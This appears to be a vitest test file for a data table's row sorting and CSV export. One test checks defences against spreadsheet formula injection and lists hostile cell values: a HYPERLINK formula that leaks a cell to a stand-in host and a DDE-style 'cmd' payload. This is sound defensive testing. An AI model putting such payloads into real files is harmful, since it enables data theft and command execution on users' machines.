import { describe, expect, it } from 'vitest';
import { cellText, compareValues, neutraliseFormula, nextSort, sortRows, toCsv } from './table-model';

describe('sortRows', () => {
  const rows = [
    { id: 1, name: 'item 10', amount: '100.50', note: null },
    { id: 2, name: 'item 9', amount: '9.99', note: 'b' },
    { id: 3, name: 'Item 2', amount: '1000', note: 'a' },
    { id: 4, name: 'item 9', amount: null, note: 'c' },
  ];
  const ids = (r: Record<string, unknown>[]) => r.map((x) => x.id);

  it('sorts numeric strings as numbers, empty values last in both directions', () => {
    expect(ids(sortRows(rows, { column: 'amount', direction: 'asc' }))).toEqual([2, 1, 3, 4]);
    expect(ids(sortRows(rows, { column: 'amount', direction: 'desc' }))).toEqual([3, 1, 2, 4]);
  });

  it('sorts text naturally and case-insensitively, keeping ties in database order', () => {
    expect(ids(sortRows(rows, { column: 'name', direction: 'asc' }))).toEqual([3, 2, 4, 1]);
    expect(ids(sortRows(rows, { column: 'name', direction: 'desc' }))).toEqual([1, 2, 4, 3]);
  });

  it('leaves the input untouched and keeps the order with no sort', () => {
    const copy = structuredClone(rows);
    expect(ids(sortRows(rows, null))).toEqual([1, 2, 3, 4]);
    sortRows(rows, { column: 'id', direction: 'desc' });
    expect(rows).toEqual(copy);
  });

  it('cycles a header through asc, desc and unsorted', () => {
    const a = nextSort(null, 'x');
    const d = nextSort(a, 'x');
    expect([a, d, nextSort(d, 'x'), nextSort(d, 'y')]).toEqual([
      { column: 'x', direction: 'asc' },
      { column: 'x', direction: 'desc' },
      null,
      { column: 'y', direction: 'asc' },
    ]);
  });

  it('compares numbers before falling back to text', () => {
    expect(compareValues(2, 10)).toBeLessThan(0);
    expect(compareValues('2', '10')).toBeLessThan(0);
    expect(compareValues('b', 'a')).toBeGreaterThan(0);
    expect(compareValues(null, 'a')).toBeGreaterThan(0);
  });
});

describe('toCsv', () => {
  it('escapes commas, quotes and newlines; NULL is an empty field', () => {
    const csv = toCsv(
      ['name', 'note', 'n'],
      [
        { name: 'Smith, John', note: 'said "hi"', n: 1 },
        { name: 'multi\nline', note: null, n: 2.5 },
        { name: 'plain', note: 'cr\rhere', n: 0 },
      ],
    );
    expect(csv).toBe(
      'name,note,n\r\n' + '"Smith, John","said ""hi""",1\r\n' + '"multi\nline",,2.5\r\n' + 'plain,"cr\rhere",0\r\n',
    );
  });

  it('quotes header names that need it and writes objects as JSON', () => {
    expect(toCsv(['a,b'], [{ 'a,b': { k: [1, 2] } }])).toBe('"a,b"\r\n"{""k"":[1,2]}"\r\n');
  });

  it('writes false and 0 rather than dropping them', () => {
    expect(toCsv(['f', 'z'], [{ f: false, z: 0 }])).toBe('f,z\r\nfalse,0\r\n');
    expect(cellText(undefined)).toBe('');
  });

  it('neutralises text a spreadsheet would run as a formula, and leaves numbers numbers', () => {
    const hostile = ['=HYPERLINK("https://evil.example/?d="&A2,"x")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=1'];
    const csv = toCsv(['v'], hostile.map((v) => ({ v })));
    expect(csv).toBe(
      'v\r\n' +
        '"\'=HYPERLINK(""https://evil.example/?d=""&A2,""x"")"\r\n' +
        "'+1+cmd|/C calc!A0\r\n" +
        "'-2+3\r\n" +
        "'@SUM(A1:A9)\r\n" +
        "'\t=1+1\r\n" +
        '"\'\r=1+1"\r\n' +
        "'=1\r\n",
    );
    // Negative numbers, as numbers or as NUMERIC strings, and signed exponents stay numeric.
    expect(toCsv(['n', 's'], [{ n: -5, s: '-12.50' }, { n: -0.5, s: '+3' }, { n: 1e21, s: '-1e-7' }])).toBe('n,s\r\n-5,-12.50\r\n-0.5,+3\r\n1e+21,-1e-7\r\n');
    // Text that merely contains those characters, and JSON or booleans, is untouched.
    expect(toCsv(['t', 'j', 'b'], [{ t: 'a=b', j: { k: '=1' }, b: false }])).toBe('t,j,b\r\na=b,"{""k"":""=1""}",false\r\n');
    // A column named by the model's SQL alias is text from outside too.
    expect(toCsv(['=cmd()'], [])).toBe("'=cmd()\r\n");
    expect(neutraliseFormula('-')).toBe("'-");
    expect(neutraliseFormula('- item')).toBe("'- item");
  });
});
